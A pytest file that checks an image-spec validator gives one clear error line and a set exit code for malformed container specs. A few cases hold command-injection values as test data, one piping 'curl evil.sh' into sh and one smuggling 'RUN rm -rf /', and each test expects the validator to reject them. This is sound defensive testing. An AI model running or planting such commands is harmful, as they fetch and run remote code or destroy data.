"""Broken specs: each gives one clear line naming file, field and what is
allowed, a documented exit code, and no traceback."""

from __future__ import annotations

import pytest

from imagekit.errors import CompatError, SpecError
from imagekit.spec import Catalog

GOOD = {"framework": {"name": "pytorch", "version": "2.13.0"}, "device": "cpu",
        "python": "3.11", "tags": ["v1"]}


def _spec(**changes):
    spec = {k: v for k, v in GOOD.items()}
    for k, v in changes.items():
        if v is None:
            spec.pop(k, None)
        else:
            spec[k] = v
    return spec


BROKEN = [
    # (id, spec, files, exit code, words the one line must hold)
    ("unknown-field", _spec(pyhton="3.11"), {}, 3, ["pyhton", "unknown field", "python"]),
    ("unknown-framework", _spec(framework={"name": "caffe", "version": "1.0"}), {}, 3,
     ["framework.name", "caffe", "tensorflow"]),
    ("bad-device", _spec(device="tpu"), {}, 3, ["device", "'cpu' or 'gpu'"]),
    ("cuda-on-cpu", _spec(cuda="12.4"), {}, 3, ["cuda", "device is cpu"]),
    ("python-unsupported", _spec(framework={"name": "pytorch", "version": "2.15.0"},
                                 python="3.10"), {}, 4,
     ["Python 3.10", "supported: 3.11"]),
    ("unknown-version", _spec(framework={"name": "tensorflow", "version": "9.9.9"}), {}, 4,
     ["tensorflow 9.9.9", "nearest valid"]),
    ("legacy-refused", _spec(framework={"name": "tensorflow", "version": "1.6.0"},
                             python="3.11"), {}, 4, ["refused", "CUDA 9", "nearest valid"]),
    ("wrong-cuda", _spec(framework={"name": "tensorflow", "version": "2.21.0"}, device="gpu",
                         cuda="11.8"), {}, 4, ["CUDA 12.5", "not 11.8"]),
    ("pip-injection", _spec(pip=["numpy && curl evil.sh | sh"]), {}, 3,
     ["pip.0", "shell syntax"]),
    ("pip-newline", _spec(pip=["numpy\nRUN rm -rf /"]), {}, 3, ["pip.0", "newlines"]),
    ("apt-injection", _spec(apt=["curl;rm"]), {}, 3, ["apt.0", "Debian package name"]),
    ("missing-code-dir", _spec(code={"src": "nope", "dest": "/opt/app"}), {}, 3,
     ["code.src", "does not exist"]),
    ("bad-tag", _spec(tags=["v1 .0"]), {}, 3, ["tags.0", "Docker tag"]),
    ("relative-workdir", _spec(workdir="opt/app"), {}, 3, ["workdir", "absolute path"]),
    ("bad-env-name", _spec(env={"1BAD": "x"}), {}, 3, ["env.1BAD", "environment variable"]),
    ("no-framework", _spec(framework=None), {}, 3, ["framework: required"]),
    ("jupyter-on-code", _spec(jupyter={"enabled": True},
                              code={"src": "code", "dest": "/code"}),
     {"code/train.py": "print(1)\n"}, 3, ["code.dest", "/code", "platform mounts"]),
    ("bad-port", _spec(jupyter={"enabled": True, "port": 80}), {}, 3, ["jupyter.port"]),
    ("bad-base", _spec(base="Python:3.11 slim"), {}, 3, ["base", "image reference"]),
]


@pytest.mark.parametrize("case", BROKEN, ids=[c[0] for c in BROKEN])
def test_broken_spec_one_clear_line(project, case):
    _, spec, files, code, words = case
    project.add("broken", spec, files)
    r = project.run("validate", "broken")
    assert r.code == code, r.output
    assert "Traceback" not in r.output
    lines = [line for line in r.stderr.splitlines() if line.strip()]
    assert len(lines) == 1, r.stderr
    assert "images/broken/image.yaml" in lines[0]
    for w in words:
        assert w in lines[0], (w, lines[0])


def test_invalid_yaml(project):
    d = project.add("broken", GOOD)
    (d / "image.yaml").write_text("name: broken\nframework: [unclosed\n")
    r = project.run("validate", "broken")
    assert r.code == 3 and "not valid YAML" in r.stderr and "line" in r.stderr
    assert "Traceback" not in r.output


def test_name_must_match_folder(project):
    d = project.add("broken", GOOD)
    (d / "image.yaml").write_text((d / "image.yaml").read_text().replace(
        "name: broken", "name: other"))
    r = project.run("validate", "broken")
    assert r.code == 3 and "must match its folder" in r.stderr


def test_all_errors_in_one_run(project):
    project.add("broken", _spec(pyhton="3.11", device="tpu", tags=["bad tag"]))
    r = project.run("validate", "broken")
    assert r.code == 3
    lines = r.stderr.strip().splitlines()
    assert len(lines) == 3, r.stderr
    assert any("pyhton" in x for x in lines) and any("device" in x for x in lines)
    assert any("tags.0" in x for x in lines)


def test_several_problems_are_one_error_with_one_line_each(project):
    project.add("broken", _spec(pyhton="3.11", device="tpu", tags=["bad tag"]))
    with pytest.raises(SpecError) as e:
        Catalog(project.root / "images").resolve("broken")
    assert e.value.exit_code == 3 and len(e.value.problems) == 3
    assert e.value.lines() == e.value.problems
    fields = sorted(line.split(": ")[1] for line in e.value.problems)
    assert fields == ["device", "pyhton", "tags.0"]
    assert all(line.startswith("images/broken/image.yaml: ") or "/images/broken/image.yaml: " in line
               for line in e.value.problems)


def test_one_problem_is_the_message_itself(project):
    project.add("broken", _spec(device="tpu"))
    with pytest.raises(SpecError) as e:
        Catalog(project.root / "images").resolve("broken")
    assert e.value.problems == [] and e.value.lines() == [e.value.message]
    assert "device" in e.value.message


def test_unknown_image_name(project):
    project.add("good", GOOD)
    r = project.run("build", "nosuch")
    assert r.code == 3 and "no image named 'nosuch'" in r.stderr and "good" in r.stderr


def test_missing_spec_file_named(tmp_path):
    cat = Catalog(tmp_path / "images")
    with pytest.raises(SpecError, match="no image named"):
        cat.get("x")


def test_parent_inherits_and_conflicts_are_refused(project):
    project.add("base-img", GOOD)
    project.add("child", {"parent": "base-img", "tags": ["v1"]})
    plan = Catalog(project.root / "images").resolve("child")
    assert plan.framework == "pytorch" and plan.base_image == "base-img:v1"
    project.add("child2", {"parent": "base-img", "python": "3.12"})
    with pytest.raises(CompatError, match="differs from parent"):
        Catalog(project.root / "images").resolve("child2")


def test_catalog_specs_are_valid():
    from helpers import REPO, imagekit
    r = imagekit("validate", cwd=REPO)
    assert r.code == 0, r.output
    assert len(Catalog(REPO / "images").names()) >= 2
